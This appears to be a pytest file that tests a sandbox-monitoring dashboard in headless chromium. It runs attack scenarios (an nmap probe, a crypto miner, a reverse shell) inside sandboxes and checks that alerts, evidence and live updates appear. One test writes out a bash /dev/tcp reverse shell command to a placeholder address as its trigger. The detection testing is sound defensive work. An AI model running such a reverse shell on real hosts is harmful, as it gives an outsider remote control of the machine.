"""The dashboard in a real browser over a real host's store: scenarios that fire alerts (a miner, a
reverse shell, an nmap probe) run in sandboxes labelled run/episode, then Debian's chromium, driven by
Playwright, clicks from the runs to a sandbox, opens an alert's evidence and downloads the evidence
packet; and a running sandbox's page shows a new command and its alert without a reload.

The browser is the system's (/usr/bin/chromium, or CORRAL_TEST_CHROMIUM): Playwright is never let
download one. Screenshots of what users see first go to docs/img/ (CORRAL_UI_SCREENSHOTS=0 skips)."""

from __future__ import annotations

import contextlib
import io
import os
import shutil
import socket
import tempfile
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import uvicorn

from corral import Sandbox
from corral.ui import make_app
from helpers import own_host, policy
from scenarios import CATEGORIES, SCENARIOS, load, run

CHROMIUM = os.environ.get("CORRAL_TEST_CHROMIUM", "/usr/bin/chromium")
ARGS = [
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
DOCS_IMG = Path(__file__).resolve().parent.parent / "docs" / "img"
RUN = "rl-demo-0042"
OTHER_RUN = "rl-demo-0041"

pytestmark = pytest.mark.root

playwright_api = pytest.importorskip(
    "playwright.sync_api", reason="playwright (the dev extra) is not installed"
)
if not os.access(CHROMIUM, os.X_OK):  # pragma: no cover - the CI image has it
    pytest.skip(f"no chromium at {CHROMIUM} (apt-get install chromium)", allow_module_level=True)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@contextlib.contextmanager
def dashboard(store: str) -> Iterator[str]:
    """The dashboard over `store`, served by uvicorn on a free loopback port in a thread."""
    port = _free_port()
    server = uvicorn.Server(
        uvicorn.Config(make_app(store, token=None), host="127.0.0.1", port=port, log_level="error")
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.02)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(10)


@contextlib.contextmanager
def browser() -> Iterator[Any]:
    """A page of a headless chromium with a fresh profile of its own."""
    profile = tempfile.mkdtemp(prefix="corral-ui-chromium-")
    with playwright_api.sync_playwright() as p:
        context = p.chromium.launch_persistent_context(
            profile,
            executable_path=CHROMIUM,
            headless=True,
            args=ARGS,
            viewport={"width": 1280, "height": 860},
            accept_downloads=True,
        )
        try:
            page = context.new_page()
            errors: list[str] = []
            page.on("pageerror", lambda e: errors.append(str(e)))
            page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
            page.errors = errors
            yield page
        finally:
            context.close()
            shutil.rmtree(profile, ignore_errors=True)


def shoot(page: Any, name: str) -> None:
    if os.environ.get("CORRAL_UI_SCREENSHOTS", "1") == "0":
        return
    DOCS_IMG.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(DOCS_IMG / name))


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A host with its own store, after three attacks ran in it: a probe (run rl-demo-0041), a
    reverse shell and a miner (episodes 0 and 1 of run rl-demo-0042)."""
    tmp = tmp_path_factory.mktemp("ui-browser")
    store = str(tmp / "audit.db")
    with own_host(store=store) as host:
        for run_name, episode, name in [
            (OTHER_RUN, "0", "attack-nmap-internal"),
            (RUN, "0", "attack-bash-dev-tcp"),
            (RUN, "1", "attack-miner-stratum"),
        ]:
            scratch = tmp / name
            scratch.mkdir()
            labels = {"run": run_name, "episode": episode}
            run(load(SCENARIOS / name), scratch, alert_only=True, host=host, labels=labels)
    # The host is shut down before the tests: SQLite keeps a closed connection's descriptor open while
    # another connection of the process has the file open, so the dashboard's would outlive its test.
    return store


def test_from_the_runs_to_an_alerts_evidence_and_the_packet(recorded: str) -> None:
    store = recorded
    with dashboard(store) as url, browser() as page:
        page.goto(url + "/")
        page.wait_for_selector(f"text={RUN}")
        shoot(page, "ui-runs.png")
        page.click(f"a:text('{RUN}')")
        page.wait_for_url(f"**/runs/{RUN}")
        rows = page.locator("table.sandboxes tbody tr")
        assert rows.count() == 2, rows.all_inner_texts()
        # The reverse shell's sandbox: episode 0 (the miner's is episode 1).
        row = page.locator("table.sandboxes tbody tr", has_text="episode=0")
        assert row.locator(".badge").first.inner_text() != "clean"
        row.locator("a").first.click()
        page.wait_for_selector("#verdict")
        verdict = page.locator("#verdict").inner_text().lower()
        assert verdict in ("critical", "high", "medium"), verdict
        alert = page.locator("details.alert", has_text="reverse_shell").first
        assert not alert.locator(".evidence").is_visible()
        alert.locator("summary").click()
        evidence = alert.locator(".evidence")
        evidence.wait_for(state="visible")
        text = evidence.inner_text()
        assert "bash" in text and ("MITRE" in text or "Processes" in text), text
        alert.scroll_into_view_if_needed()
        shoot(page, "ui-alert.png")
        with page.expect_download() as d:
            page.click("#packet")
        data = Path(d.value.path()).read_bytes()
        z = zipfile.ZipFile(io.BytesIO(data))
        assert {"events.jsonl", "proof.json", "verification.json", "report.html"} <= set(z.namelist())
        assert b'"type":"alert"' in z.read("events.jsonl")
        assert b"reverse_shell" in z.read("report.html")
        # The miner's page, with its CPU chart, is the one users see first.
        page.go_back()
        page.locator("table.sandboxes tbody tr", has_text="episode=1").locator("a").first.click()
        page.set_viewport_size({"width": 1280, "height": 1000})
        page.wait_for_selector("#chart-cpu .uplot")
        assert "mining" in page.locator("#alerts").inner_text()
        shoot(page, "ui-sandbox.png")
        assert not page.errors, page.errors


def test_a_running_sandboxs_page_follows_it_live(recorded: str) -> None:
    store = recorded
    alert_only = policy(network={"egress": []}, tripwires={"responses": dict.fromkeys(CATEGORIES, "alert")})
    with (
        own_host(store=store) as host,
        Sandbox(alert_only, host=host, labels={"run": RUN, "episode": "live"}, keep_workspace=False) as sb,
    ):
        sb.exec("true")
        with dashboard(store) as url, browser() as page:
            page.goto(f"{url}/sandboxes/{sb.id}")
            page.wait_for_selector("#live-state")
            assert page.locator("details.alert").count() == 0
            sb.exec("echo corral-live-marker", text=True)
            started = time.monotonic()
            page.wait_for_selector("#timeline tr:has-text('corral-live-marker')", timeout=2000)
            row_after = time.monotonic() - started
            sb.exec("bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'", timeout=20, text=True)
            started = time.monotonic()
            page.wait_for_selector("details.alert", timeout=2000)
            alert_after = time.monotonic() - started
            print(f"\nlive: row shown {row_after:.2f}s after its command returned, alert {alert_after:.2f}s")
            assert page.locator("#verdict").inner_text() != "clean"
            assert not page.errors, page.errors
